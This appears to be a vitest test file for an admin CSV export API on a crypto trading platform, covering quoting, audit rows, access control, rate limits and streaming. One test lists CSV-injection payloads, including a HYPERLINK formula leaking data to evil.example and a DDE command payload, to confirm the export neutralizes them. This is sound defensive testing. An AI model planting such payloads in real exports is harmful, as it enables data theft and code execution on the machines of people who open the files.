import { once } from "node:events";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { and, eq, sql } from "drizzle-orm";
import { auditLog, users } from "../db/schema.js";
import { queryRows } from "../db/client.js";
import { startTestServer, type TestServer } from "../../test/harness.js";
import { createSignedInUser, type TestUser } from "../../test/fixtures.js";
import { depositBody, fund, postJson, putOffer, tradeTo, txHash } from "../../test/trading-fixtures.js";
import { EXPORTS_PER_HOUR } from "../http/account-quota.js";
import { csvStream, type CsvExport } from "./csv-export.js";
import { usersExport } from "./users-export.js";

let server: TestServer;
let admin: TestUser;
const newUser = (role?: "user" | "merchant" | "admin", username?: string) =>
  createSignedInUser(server.ctx.db, server.ctx.config.sessionSecret, { role, username });

/** RFC 4180 records (quoted fields, doubled quotes, CRLF), the reader's side of csv.ts. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = "";
  let record: string[] = [];
  let quoted = false;
  const endField = () => {
    record.push(field);
    field = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") endField();
    else if (c === "\r" && text[i + 1] === "\n") {
      endField();
      records.push(record);
      record = [];
      i++;
    } else field += c;
  }
  expect(field === "" && record.length === 0, "the file ends with CRLF").toBe(true);
  return records;
}

/** The download as the browser gets it, and its rows as objects by header. */
async function download(path: string, token = admin.token) {
  const res = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  const bytes = Buffer.from(await res.arrayBuffer());
  if (res.status !== 200) return { res, status: res.status, body: JSON.parse(bytes.toString("utf8")), header: [], rows: [] };
  expect([...bytes.subarray(0, 3)], "UTF-8 BOM").toEqual([0xef, 0xbb, 0xbf]);
  const [header, ...records] = parseCsv(bytes.subarray(3).toString("utf8"));
  const rows = records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
  return { res, status: res.status, body: null, header: header!, rows };
}

const exportRows = (kind: string) =>
  server.ctx.db
    .select()
    .from(auditLog)
    .where(and(eq(auditLog.action, "export.downloaded"), eq(auditLog.targetId, kind)));

beforeAll(async () => {
  server = await startTestServer();
  admin = await newUser("admin");
});
afterAll(() => server.stop());

describe("GET /api/admin/exports/users", () => {
  it("downloads the filtered users as CSV: BOM, header, RFC 4180 quoting, named by kind and day", async () => {
    const tag = `exp${Date.now().toString(36)}`;
    const plain = await newUser("merchant", `${tag}_plain`);
    const quoted = await newUser("merchant", `${tag}_quoted`);
    await newUser("user", `${tag}_other_role`);
    await server.ctx.db.update(users).set({ fullName: 'Adé "Ọlá", Ìbàdàn\nNaija ₦' }).where(eq(users.id, quoted.id));

    const { res, header, rows } = await download(`/api/admin/exports/users?q=${tag}&role=merchant`);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="users-${new Date().toISOString().slice(0, 10)}.csv"`);
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(header).toEqual([
      "id",
      "username",
      "full_name",
      "email",
      "phone_number",
      "role",
      "email_confirmed",
      "suspended_at",
      "reputation_score",
      "total_trades",
      "language",
      "created_at",
    ]);
    // Newest first, as the list shows them; the other role is filtered out.
    expect(rows.map((r) => r.username)).toEqual([quoted.username, plain.username]);
    expect(rows[0]).toMatchObject({
      id: quoted.id,
      full_name: 'Adé "Ọlá", Ìbàdàn\nNaija ₦',
      role: "merchant",
      email_confirmed: "true",
      suspended_at: "",
    });
    expect(rows[1]!.created_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  });

  it("neutralizes a spreadsheet formula an attacker put in their name", async () => {
    const attacker = await newUser();
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"];
    const found: string[] = [];
    for (const name of names) {
      await server.ctx.db.update(users).set({ fullName: name }).where(eq(users.id, attacker.id));
      const { rows } = await download(`/api/admin/exports/users?q=${attacker.username}`);
      found.push(rows[0]!.full_name!);
    }
    expect(found).toEqual(names.map((n) => `'${n}`));
  });

  it("writes the audit row (who, which export, which filters) before the file, and the audit-log export lists itself", async () => {
    const before = (await exportRows("users")).length;
    await download("/api/admin/exports/users?role=admin&q=nobody-by-this-name");
    const rows = await exportRows("users");
    expect(rows).toHaveLength(before + 1);
    expect(rows.at(-1)).toMatchObject({
      actorId: admin.id,
      targetType: "export",
      data: { kind: "users", filters: { role: "admin", q: "nobody-by-this-name" } },
    });

    const own = await download(`/api/admin/exports/audit-log?action=export.downloaded&actor=${admin.username}`);
    expect(own.rows[0]).toMatchObject({ action: "export.downloaded", actor_id: admin.id, actor_username: admin.username, target_id: "audit-log" });
    expect(JSON.parse(own.rows[0]!.data!)).toEqual({ kind: "audit-log", filters: { action: "export.downloaded", actor: admin.username } });
    expect(own.rows.map((r) => r.target_id)).toContain("users");
  });

  it("is for admins only", async () => {
    for (const [token, status] of [
      [null, 401],
      [(await newUser()).token, 403],
      [(await newUser("merchant")).token, 403],
    ] as const) {
      const res = await fetch(`${server.url}/api/admin/exports/users`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
      expect(res.status).toBe(status);
    }
  });

  it("answers bad filters with a clear 400 and writes nothing", async () => {
    const before = (await server.ctx.db.select().from(auditLog)).length;
    for (const path of [
      "/api/admin/exports/users?role=king",
      "/api/admin/exports/users?page=2",
      "/api/admin/exports/audit-log?from=2026-02-30",
      "/api/admin/exports/audit-log?from=2026-03-02&to=2026-03-01",
      "/api/admin/exports/ledger-entries?account=abc",
      "/api/admin/exports/ledger-entries?coin=NOPE",
      "/api/admin/exports/ledger-entries?account_kind=savings",
      "/api/admin/exports/transactions?kind=loan",
      "/api/admin/exports/transactions?status=lost",
      "/api/admin/exports/transactions?colour=red",
    ]) {
      const { status, body } = await download(path);
      expect(status, path).toBe(400);
      expect(body.error.code).toBe("VALIDATION_FAILED");
      expect(body.error.message.length).toBeGreaterThan(5);
    }
    expect((await server.ctx.db.select().from(auditLog)).length).toBe(before);
  });

  it(`allows an admin ${EXPORTS_PER_HOUR} exports an hour, refusing the next without an audit row`, async () => {
    const busy = await newUser("admin");
    for (let i = 0; i < EXPORTS_PER_HOUR; i++) expect((await download("/api/admin/exports/users?q=nobody-at-all", busy.token)).status).toBe(200);
    const refused = await download("/api/admin/exports/transactions", busy.token);
    expect(refused.status).toBe(429);
    expect(refused.body.error.code).toBe("RATE_LIMITED");
    const rows = await server.ctx.db.select().from(auditLog).where(eq(auditLog.actorId, busy.id));
    expect(rows).toHaveLength(EXPORTS_PER_HOUR);
  });
});

describe("ledger entries and transactions", () => {
  it("export a user's ledger entries with exact signed amounts, by user, coin and account kind", async () => {
    const user = await newUser();
    await fund(server.ctx.db, admin, user, "USDT", "12.5");
    await fund(server.ctx.db, admin, user, "PI", "1.00000001");
    const w = await postJson(server.url, user.token, "/api/wallet/withdrawals", {
      coin: "USDT",
      network: "BEP20",
      amount: "2.25",
      address: "0xabc0000000000000000000000000000000000001",
    });
    expect(w.status).toBe(201);

    const all = await download(`/api/admin/exports/ledger-entries?user=${user.username}`);
    expect(all.rows.map((r) => [r.transfer_kind, r.coin, r.account_kind, r.amount, r.balance_after])).toEqual([
      ["deposit", "USDT", "available", "12.50000000", "12.50000000"],
      ["deposit", "PI", "available", "1.00000001", "1.00000001"],
      ["withdrawal_request", "USDT", "available", "-2.25000000", "10.25000000"],
      ["withdrawal_request", "USDT", "withdrawing", "2.25000000", "2.25000000"],
    ]);
    expect(all.rows.every((r) => r.account_user_id === user.id && r.account_username === user.username)).toBe(true);
    expect(all.rows[2]!.withdrawal_id).toBe(w.body.withdrawal.id);
    const ids = all.rows.map((r) => Number(r.entry_id));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));

    expect((await download(`/api/admin/exports/ledger-entries?user=${user.id}&coin=pi`)).rows.map((r) => r.amount)).toEqual(["1.00000001"]);
    const withdrawing = await download(`/api/admin/exports/ledger-entries?user=${user.username}&account_kind=withdrawing`);
    expect(withdrawing.rows.map((r) => r.amount)).toEqual(["2.25000000"]);
    const account = await download(`/api/admin/exports/ledger-entries?account=${withdrawing.rows[0]!.account_id}`);
    expect(account.rows.map((r) => r.entry_id)).toEqual([withdrawing.rows[0]!.entry_id]);
    expect((await download(`/api/admin/exports/ledger-entries?user=${user.id}&to=2020-01-01`)).rows).toEqual([]);
    expect((await download(`/api/admin/exports/ledger-entries?user=no_such_person_here`)).rows).toEqual([]);
  });

  it("export deposits, withdrawals and trades with hashes, naira and parties, by kind, person, coin and status", async () => {
    const user = await newUser();
    const merchant = await newUser("merchant");
    const hash = txHash();
    const deposit = await postJson(server.url, user.token, "/api/wallet/deposits", depositBody({ coin: "USDT", amount: "40", tx_hash: hash }));
    await postJson(server.url, admin.token, `/api/admin/deposits/${deposit.body.deposit.id}/confirm`);
    const w = await postJson(server.url, user.token, "/api/wallet/withdrawals", {
      coin: "USDT",
      network: "BEP20",
      amount: "1.5",
      address: "0xabc0000000000000000000000000000000000002",
    });
    await putOffer(server.ctx.db, merchant, "PI");
    const orderId = await tradeTo(server, { admin, user, merchant }, { side: "buy", status: "completed" });

    const { rows } = await download(`/api/admin/exports/transactions?user=${user.username}`);
    expect(rows.map((r) => r.kind)).toEqual(["deposit", "withdrawal", "trade"]);
    expect(rows[0]).toMatchObject({
      id: deposit.body.deposit.id,
      status: "confirmed",
      coin: "USDT",
      coin_amount: "40.00000000",
      user_id: user.id,
      username: user.username,
      tx_hash: hash,
      reviewed_by_id: admin.id,
      reviewed_by_username: admin.username,
    });
    expect(rows[0]!.settled_at).toMatch(/Z$/);
    expect(rows[1]).toMatchObject({
      id: w.body.withdrawal.id,
      status: "pending",
      coin_amount: "1.50000000",
      address: "0xabc0000000000000000000000000000000000002",
    });
    expect(rows[2]).toMatchObject({
      id: orderId,
      status: "completed",
      coin: "PI",
      user_id: user.id,
      side: "buy",
      counterparty_id: merchant.id,
      counterparty_username: merchant.username,
    });
    expect(rows[2]!.naira_amount).toMatch(/^\d+\.\d{2}$/);
    expect(rows[2]!.price_naira).toMatch(/^\d+\.\d{2}$/);

    // The merchant sees the same trade from the other side; the filters narrow it.
    expect((await download(`/api/admin/exports/transactions?user=${merchant.id}&kind=trade`)).rows.map((r) => r.id)).toEqual([orderId]);
    expect((await download(`/api/admin/exports/transactions?user=${user.id}&coin=usdt`)).rows.map((r) => r.kind)).toEqual(["deposit", "withdrawal"]);
    expect((await download(`/api/admin/exports/transactions?user=${user.id}&status=pending`)).rows.map((r) => r.id)).toEqual([w.body.withdrawal.id]);
    expect((await download(`/api/admin/exports/transactions?user=${user.id}&kind=withdrawal`)).rows.map((r) => r.kind)).toEqual(["withdrawal"]);
    expect((await download(`/api/admin/exports/transactions?user=${user.id}&from=2999-01-01`)).rows).toEqual([]);
  });
});

describe("streaming", () => {
  const COUNT = 2_100;
  let tag: string;

  beforeAll(async () => {
    // Thousands of accounts written by one statement share one created_at: the id alone orders them.
    tag = `bulk${Date.now().toString(36)}`;
    await server.ctx.db.execute(sql`
      with made as (
        insert into users (email, full_name, email_confirmed_at)
        select ${tag} || '_' || n || '@example.test', 'Bulk ' || n, now() from generate_series(1, ${COUNT}) n
        returning id, email
      ), named as (
        insert into profiles (id, username) select id, split_part(email, '@', 1) from made returning id
      )
      insert into user_roles (user_id) select id from named`);
  });

  it("reads a large export in keyset pages of the size asked, each row once, in the list's order", async () => {
    for (const pageSize of [500, 333]) {
      const pages: number[] = [];
      const ids: string[] = [];
      for await (const page of usersExport(server.ctx.db, { q: tag }).pages(pageSize)) {
        pages.push(page.length);
        ids.push(...page.map((cells) => cells[0] as string));
      }
      expect(pages.length).toBe(Math.ceil(COUNT / pageSize));
      expect(pages.slice(0, -1).every((n) => n === pageSize)).toBe(true);
      expect(new Set(ids).size).toBe(COUNT);
      expect(ids).toEqual([...ids].sort().reverse());
    }
    const { rows } = await download(`/api/admin/exports/users?q=${tag}`);
    expect(rows).toHaveLength(COUNT);
    expect(new Set(rows.map((r) => r.id)).size).toBe(COUNT);
  });

  it("stops reading pages when the response is abandoned", async () => {
    const real = usersExport(server.ctx.db, { q: tag });
    let pagesRead = 0;
    const counted: CsvExport = {
      columns: real.columns,
      async *pages(pageSize) {
        for await (const page of real.pages(pageSize)) {
          pagesRead++;
          yield page;
        }
      },
    };
    const stream = csvStream(counted, 100);
    const first = (await once(stream, "data")) as [string];
    expect(first[0].startsWith("\uFEFFid,username")).toBe(true);
    stream.pause();
    stream.destroy();
    await once(stream, "close");
    // One page read ahead at most, not the 21 the whole export takes.
    expect(pagesRead).toBeLessThanOrEqual(2);
    const [row] = await queryRows<{ n: number }>(server.ctx.db, sql`select count(*)::int as n from profiles where username like ${`${tag}%`}`);
    expect(Number(row!.n)).toBe(COUNT);
  });
});
